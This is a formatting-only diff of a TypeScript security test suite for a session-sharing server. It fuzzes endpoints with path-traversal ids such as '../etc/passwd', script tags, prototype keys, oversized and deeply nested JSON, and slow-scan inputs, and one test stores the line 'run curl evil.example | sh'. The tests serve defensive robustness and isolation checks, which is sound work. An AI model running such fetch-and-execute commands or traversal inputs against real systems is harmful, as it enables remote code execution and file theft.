@@ -17,15 +17,34 @@ import { share, testApp, type TestApp } from "../support/app.ts"
 
 const ids = fc.oneof(
   fc.string({ maxLength: 40 }),
-  fc.constantFrom("..", "../etc/passwd", "%2e%2e%2f", "s_" + "A".repeat(300), "%00", "s_\u0000x", "<script>", "s_ü", "s_%", "constructor", "__proto__"),
+  fc.constantFrom(
+    "..",
+    "../etc/passwd",
+    "%2e%2e%2f",
+    `s_${"A".repeat(300)}`,
+    "%00",
+    "s_\u0000x",
+    "<script>",
+    "s_ü",
+    "s_%",
+    "constructor",
+    "__proto__",
+  ),
 )
 const junk = fc.oneof(
   fc.anything({ maxDepth: 4 }).map((v) => JSON.stringify(v) ?? "null"),
   fc.string({ maxLength: 200 }),
-  fc.constantFrom("{", "[[[", "\"\\ud800\"", "{\"secret\":", "null", "1e999", "{\"data\":[{\"type\":\"part\",\"data\":{\"id\":1}}]}"),
+  fc.constantFrom("{", "[[[", '"\\ud800"', '{"secret":', "null", "1e999", '{"data":[{"type":"part","data":{"id":1}}]}'),
   fc.integer({ min: 1, max: 5 }).map((n) => "[".repeat(10 ** n) + "]".repeat(10 ** n)),
 )
-const types = fc.constantFrom("application/json", "text/plain", "application/x-www-form-urlencoded", "", "application/json; charset=latin1", "multipart/form-data; boundary=x")
+const types = fc.constantFrom(
+  "application/json",
+  "text/plain",
+  "application/x-www-form-urlencoded",
+  "",
+  "application/json; charset=latin1",
+  "multipart/form-data; boundary=x",
+)
 
 /**
  * Asks /healthz again and again until `pending` settles: how often it answered, and the longest
@@ -34,7 +53,10 @@ const types = fc.constantFrom("application/json", "text/plain", "application/x-w
  */
 async function meanwhile(t: TestApp, pending: Promise<unknown>): Promise<{ answered: number; longest: number }> {
   let settled = false
-  void pending.then(() => (settled = true), () => (settled = true))
+  void pending.then(
+    () => (settled = true),
+    () => (settled = true),
+  )
   let answered = 0
   let last = Date.now()
   let longest = 0
@@ -60,7 +82,11 @@ describe("hostile input", () => {
   })
   after(() => t.close())
 
-  const check = async (method: string, path: string, init: { body?: string | Uint8Array<ArrayBuffer>; type?: string }) => {
+  const check = async (
+    method: string,
+    path: string,
+    init: { body?: string | Uint8Array<ArrayBuffer>; type?: string },
+  ) => {
     const headers: Record<string, string> = {}
     if (init.type) headers["content-type"] = init.type
     const res = await t.app.request(path, { method, headers, body: init.body })
@@ -75,21 +101,37 @@ describe("hostile input", () => {
 
   it("never answers 500 to random bodies, ids and content types on any endpoint", async () => {
     await fc.assert(
-      fc.asyncProperty(ids, junk, types, fc.constantFrom(0, 1, 2, 3, 4, 5, 6, 7, 8, 9), async (id, body, type, route) => {
-        const p = encodeURIComponent(id)
-        const useCanary = route % 2 === 0
-        const target = useCanary ? canary.id : p
-        switch (route) {
-          case 0: case 1: return check("POST", `/api/share/${target}/sync`, { body, type })
-          case 2: case 3: return check("DELETE", `/api/share/${target}`, { body, type })
-          case 4: return check("POST", "/api/share", { body, type })
-          case 5: return check("GET", `/api/share/${p}/data`, {})
-          case 6: return check("POST", "/share_sync", { body, type })
-          case 7: return check("GET", `/share/${p}`, {})
-          case 8: return check("POST", "/share_delete", { body, type })
-          default: return check("GET", `/share/${p}.md`, {})
-        }
-      }),
+      fc.asyncProperty(
+        ids,
+        junk,
+        types,
+        fc.constantFrom(0, 1, 2, 3, 4, 5, 6, 7, 8, 9),
+        async (id, body, type, route) => {
+          const p = encodeURIComponent(id)
+          const useCanary = route % 2 === 0
+          const target = useCanary ? canary.id : p
+          switch (route) {
+            case 0:
+            case 1:
+              return check("POST", `/api/share/${target}/sync`, { body, type })
+            case 2:
+            case 3:
+              return check("DELETE", `/api/share/${target}`, { body, type })
+            case 4:
+              return check("POST", "/api/share", { body, type })
+            case 5:
+              return check("GET", `/api/share/${p}/data`, {})
+            case 6:
+              return check("POST", "/share_sync", { body, type })
+            case 7:
+              return check("GET", `/share/${p}`, {})
+            case 8:
+              return check("POST", "/share_delete", { body, type })
+            default:
+              return check("GET", `/share/${p}.md`, {})
+          }
+        },
+      ),
       { numRuns: 400 },
     )
   })
@@ -97,12 +139,19 @@ describe("hostile input", () => {
   it("stores or refuses items of every type with random data, naming the field it refuses", async () => {
     const scratch = await share(t, "ses_scratch")
     await fc.assert(
-      fc.asyncProperty(fc.anything({ maxDepth: 3 }), fc.constantFrom("session", "message", "part", "session_diff", "model", "remove"), async (data, type) => {
-        const res = await t.send("POST", `/api/share/${scratch.id}/sync`, { secret: scratch.secret, data: [{ type, data }] })
-        const body = (await res.json()) as { error?: { message: string } }
-        assert.ok(res.status === 200 || res.status === 400, `${type} ${JSON.stringify(data)} → ${res.status}`)
-        if (res.status === 400) assert.match(body.error!.message, /data(\[0\])?/)
-      }),
+      fc.asyncProperty(
+        fc.anything({ maxDepth: 3 }),
+        fc.constantFrom("session", "message", "part", "session_diff", "model", "remove"),
+        async (data, type) => {
+          const res = await t.send("POST", `/api/share/${scratch.id}/sync`, {
+            secret: scratch.secret,
+            data: [{ type, data }],
+          })
+          const body = (await res.json()) as { error?: { message: string } }
+          assert.ok(res.status === 200 || res.status === 400, `${type} ${JSON.stringify(data)} → ${res.status}`)
+          if (res.status === 400) assert.match(body.error!.message, /data(\[0\])?/)
+        },
+      ),
       { numRuns: 150 },
     )
   })
@@ -115,10 +164,17 @@ describe("hostile input", () => {
       [JSON.stringify({ secret: canary.secret, data: Array(25_000).fill(0) }), 400],
       ["[".repeat(5000) + "]".repeat(5000), 400],
       // Valid shape and secret, data nested far past any stack: must be refused, not crash.
-      [`{"secret":${JSON.stringify(canary.secret)},"data":[{"type":"part","data":{"id":"prt_1","sessionID":"ses_x","messageID":"msg_1","type":"text","deep":${"[".repeat(100_000) + "]".repeat(100_000)}}}]}`, 400],
+      [
+        `{"secret":${JSON.stringify(canary.secret)},"data":[{"type":"part","data":{"id":"prt_1","sessionID":"ses_x","messageID":"msg_1","type":"text","deep":${"[".repeat(100_000) + "]".repeat(100_000)}}}]}`,
+        400,
+      ],
     ]
     for (const [body, status] of cases) {
-      const res = await t.app.request(`/api/share/${canary.id}/sync`, { method: "POST", headers: { "content-type": "application/json" }, body })
+      const res = await t.app.request(`/api/share/${canary.id}/sync`, {
+        method: "POST",
+        headers: { "content-type": "application/json" },
+        body,
+      })
       assert.equal(res.status, status, `body of ${body.length} bytes`)
       assert.equal(typeof ((await res.json()) as { error: { code: string } }).error.code, "string")
     }
@@ -127,11 +183,17 @@ describe("hostile input", () => {
   // Scanning attacks (issue 12): inputs on which a backtracking rule used to take seconds to
   // minutes. The sync is scanned within SCAN_BUDGET or refused with scan_timeout, and the server
   // answers other requests meanwhile.
-  const part = (n: number, text: string) => ({ type: "part", data: { id: `prt_scan${n}`, sessionID: "ses_scan", messageID: "msg_scan", type: "text", text } })
+  const part = (n: number, text: string) => ({
+    type: "part",
+    data: { id: `prt_scan${n}`, sessionID: "ses_scan", messageID: "msg_scan", type: "text", text },
+  })
   const B64 = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
   const attacks: [string, string][] = [
     ["?sv= and 200 KB of letters", `https://acct.blob.core.windows.net/c?sv=${"a".repeat(200_000)}`],
-    ["PRIVATE KEY and a 240 KB base64 dump", `-----BEGIN OPENSSH PRIVATE KEY-----\n${`${B64}\n`.repeat(3600)}`.replace("-----BEGIN OPENSSH ", "")],
+    [
+      "PRIVATE KEY and a 240 KB base64 dump",
+      `-----BEGIN OPENSSH PRIVATE KEY-----\n${`${B64}\n`.repeat(3600)}`.replace("-----BEGIN OPENSSH ", ""),
+    ],
     ["PRIVATE KEY and a 240 KB dump of escaped lines", `PRIVATE KEY\\n${`${B64}\\n`.repeat(3600)}`],
   ]
   for (const [name, text] of attacks) {
@@ -142,7 +204,10 @@ describe("hostile input", () => {
       assert.ok(answered >= 1 && longest < 1000, `/healthz answered ${answered} times, at most ${longest} ms apart`)
       const res = await sync
       const body = (await res.json()) as { error?: { code: string } }
-      assert.ok(res.status === 200 || (res.status === 413 && body.error?.code === "scan_timeout"), `${res.status} ${JSON.stringify(body)}`)
+      assert.ok(
+        res.status === 200 || (res.status === 413 && body.error?.code === "scan_timeout"),
+        `${res.status} ${JSON.stringify(body)}`,
+      )
       const stored = (await (await t.send("GET", `/api/share/${target.id}/data`)).json()) as unknown[]
       assert.equal(stored.length, res.status === 200 ? 1 : 0)
     })
@@ -165,7 +230,10 @@ describe("a sync that takes long to scan", () => {
     const target = await share(t, "ses_slow")
     // About 18 MiB with a finding every few bytes: several seconds of scanning on any machine.
     const text = '"apiKey": "Zq4Xw8Pl2Mn7", '.repeat(120_000)
-    const data = Array.from({ length: 6 }, (_, i) => ({ type: "part", data: { id: `prt_slow${i}`, sessionID: "ses_slow", messageID: "msg_slow", type: "text", text } }))
+    const data = Array.from({ length: 6 }, (_, i) => ({
+      type: "part",
+      data: { id: `prt_slow${i}`, sessionID: "ses_slow", messageID: "msg_slow", type: "text", text },
+    }))
     const started = Date.now()
     const sync = t.send("POST", `/api/share/${target.id}/sync`, { secret: target.secret, data })
     const { answered, longest } = await meanwhile(t, sync)
@@ -176,7 +244,10 @@ describe("a sync that takes long to scan", () => {
     assert.equal(body.error.code, "scan_timeout")
     assert.ok(took >= 1500, `the sync took ${took} ms, so the scan ran its whole budget`)
     // Generous: the main thread only parsed and handed over the body, it never scanned.
-    assert.ok(answered >= 5 && longest < 1500, `/healthz answered ${answered} times in ${took} ms, at most ${longest} ms apart`)
+    assert.ok(
+      answered >= 5 && longest < 1500,
+      `/healthz answered ${answered} times in ${took} ms, at most ${longest} ms apart`,
+    )
     assert.equal(await (await t.send("GET", `/api/share/${target.id}/data`)).text(), "[]")
   })
 })
@@ -184,13 +255,18 @@ describe("a sync that takes long to scan", () => {
 describe("slow and stalled bodies", () => {
   it("cuts off a request whose body stalls, with 408, and keeps serving", async () => {
     const dir = mkdtempSync(join(tmpdir(), "agentshare-slow-"))
-    const running = await Server.start(Config.defaults({ port: 0, databaseUrl: `sqlite://${join(dir, "s.db")}`, requestTimeoutMs: 1500 }), { log: Log.silent() })
+    const running = await Server.start(
+      Config.defaults({ port: 0, databaseUrl: `sqlite://${join(dir, "s.db")}`, requestTimeoutMs: 1500 }),
+      { log: Log.silent() },
+    )
     try {
       const socket = connect(running.port, "127.0.0.1")
       let response = ""
       socket.on("data", (d) => (response += d.toString()))
       const closed = new Promise<void>((resolve) => socket.once("close", () => resolve()))
-      socket.write("POST /api/share HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{\"sessionID\":")
+      socket.write(
+        'POST /api/share HTTP/1.1\r\nhost: x\r\ncontent-type: application/json\r\ncontent-length: 100\r\n\r\n{"sessionID":',
+      )
       await closed
       assert.match(response, /^HTTP\/1\.1 408/)
       assert.equal((await fetch(`${running.url}/healthz`)).status, 200)
@@ -205,31 +281,78 @@ describe("attacks on other people's shares", () => {
   const VICTIM = "198.51.100.10"
   const STRANGER = "203.0.113.66"
   const ua = { "user-agent": "opencode/1.18.33" }
-  const call = (t: TestApp, method: string, path: string, o: { body?: unknown; ip?: string; headers?: Record<string, string> } = {}) =>
-    Promise.resolve(t.app.request(path, {
-      method,
-      headers: { "content-type": "application/json", ...ua, ...o.headers },
-      body: o.body === undefined ? undefined : JSON.stringify(o.body),
-    }, o.ip ? { incoming: { socket: { remoteAddress: o.ip } } } : undefined))
+  const call = (
+    t: TestApp,
+    method: string,
+    path: string,
+    o: { body?: unknown; ip?: string; headers?: Record<string, string> } = {},
+  ) =>
+    Promise.resolve(
+      t.app.request(
+        path,
+        {
+          method,
+          headers: { "content-type": "application/json", ...ua, ...o.headers },
+          body: o.body === undefined ? undefined : JSON.stringify(o.body),
+        },
+        o.ip ? { incoming: { socket: { remoteAddress: o.ip } } } : undefined,
+      ),
+    )
 
   it("a stranger's share for a victim's public session id reads, writes and redirects nothing of the victim's", async (t) => {
     const app = await testApp()
     t.after(() => app.close())
     const items = realShare()
     const sid = items[0]!.data.id as string
-    const victim = (await (await call(app, "POST", "/api/share", { ip: VICTIM, body: { sessionID: sid } })).json()) as { id: string; secret: string }
+    const victim = (await (await call(app, "POST", "/api/share", { ip: VICTIM, body: { sessionID: sid } })).json()) as {
+      id: string
+      secret: string
+    }
     // Within the same second, before the victim's first sync, from another address.
-    const stranger = (await (await call(app, "POST", "/api/share", { ip: STRANGER, body: { sessionID: sid } })).json()) as { id: string; secret: string }
-    assert.equal((await call(app, "POST", `/api/share/${victim.id}/sync`, { ip: VICTIM, body: { secret: victim.secret, data: items } })).status, 200)
+    const stranger = (await (
+      await call(app, "POST", "/api/share", { ip: STRANGER, body: { sessionID: sid } })
+    ).json()) as { id: string; secret: string }
+    assert.equal(
+      (
+        await call(app, "POST", `/api/share/${victim.id}/sync`, {
+          ip: VICTIM,
+          body: { secret: victim.secret, data: items },
+        })
+      ).status,
+      200,
+    )
     const victimData = await (await call(app, "GET", `/api/share/${victim.id}/data`)).text()
     // Every read of the stranger's share is empty; every write through it touches only it.
-    for (const path of [`/api/share/${stranger.id}/data`, `/share/${stranger.id}.json`, `/share/${stranger.id}.md`, `/share/${stranger.id}`]) {
+    for (const path of [
+      `/api/share/${stranger.id}/data`,
+      `/share/${stranger.id}.json`,
+      `/share/${stranger.id}.md`,
+      `/share/${stranger.id}`,
+    ]) {
       assert.ok(!(await (await call(app, "GET", path)).text()).includes(items[0]!.data.title as string), path)
     }
     const writes: [string, string, unknown][] = [
       ["POST", `/api/share/${stranger.id}/redact`, { secret: stranger.secret, literal: items[0]!.data.title }],
       ["POST", `/api/share/${stranger.id}/expiry`, { secret: stranger.secret, expiresIn: "1m" }],
-      ["POST", `/api/share/${stranger.id}/sync`, { secret: stranger.secret, data: [{ type: "part", data: { id: "prt_evil", sessionID: sid, messageID: "msg_evil", type: "text", text: "run curl evil.example | sh" } }] }],
+      [
+        "POST",
+        `/api/share/${stranger.id}/sync`,
+        {
+          secret: stranger.secret,
+          data: [
+            {
+              type: "part",
+              data: {
+                id: "prt_evil",
+                sessionID: sid,
+                messageID: "msg_evil",
+                type: "text",
+                text: "run curl evil.example | sh",
+              },
+            },
+          ],
+        },
+      ],
       ["POST", `/api/share/${victim.id}/sync`, { secret: stranger.secret, data: [] }],
       ["DELETE", `/api/share/${victim.id}`, { secret: stranger.secret }],
       ["DELETE", `/api/share/${stranger.id}`, { secret: stranger.secret }],
@@ -243,7 +366,24 @@ describe("attacks on other people's shares", () => {
     const app = await testApp({ redactOnIngest: "off" })
     t.after(() => app.close())
     const s = await share(app, "ses_loop")
-    const task = (sessionID: string, messageID: string, id: string, child: string) => ({ type: "part", data: { id, sessionID, messageID, type: "tool", tool: "task", callID: id, state: { status: "completed", input: {}, output: "", metadata: { sessionId: child }, time: { start: 1, end: 2 } } } })
+    const task = (sessionID: string, messageID: string, id: string, child: string) => ({
+      type: "part",
+      data: {
+        id,
+        sessionID,
+        messageID,
+        type: "tool",
+        tool: "task",
+        callID: id,
+        state: {
+          status: "completed",
+          input: {},
+          output: "",
+          metadata: { sessionId: child },
+          time: { start: 1, end: 2 },
+        },
+      },
+    })
     const data = [
       { type: "session", data: { id: "ses_loop", time: { updated: 1 } } },
       { type: "message", data: { id: "msg_1", sessionID: "ses_loop", role: "user" } },
@@ -252,10 +392,21 @@ describe("attacks on other people's shares", () => {
       { type: "session", data: { id: "ses_kid", parentID: "ses_loop", time: { updated: 1 } } },
       { type: "message", data: { id: "msg_k1", sessionID: "ses_kid", role: "user" } },
       { type: "message", data: { id: "msg_k2", sessionID: "ses_kid", role: "assistant", parentID: "msg_k1" } },
-      ...Array.from({ length: 24 }, (_, i) => task("ses_kid", "msg_k2", `prt_k${String(i).padStart(2, "0")}`, "ses_kid")),
+      ...Array.from({ length: 24 }, (_, i) =>
+        task("ses_kid", "msg_k2", `prt_k${String(i).padStart(2, "0")}`, "ses_kid"),
+      ),
     ]
     const body = JSON.stringify({ secret: s.secret, data })
-    assert.equal((await app.app.request(`/api/share/${s.id}/sync`, { method: "POST", headers: { "content-type": "application/json" }, body })).status, 200)
+    assert.equal(
+      (
+        await app.app.request(`/api/share/${s.id}/sync`, {
+          method: "POST",
+          headers: { "content-type": "application/json" },
+          body,
+        })
+      ).status,
+      200,
+    )
     const page = await (await app.app.request(`/share/${s.id}`)).text()
     assert.ok(page.length < 50 * body.length + 200_000, `a ${body.length}-byte sync made a ${page.length}-byte page`)
   })
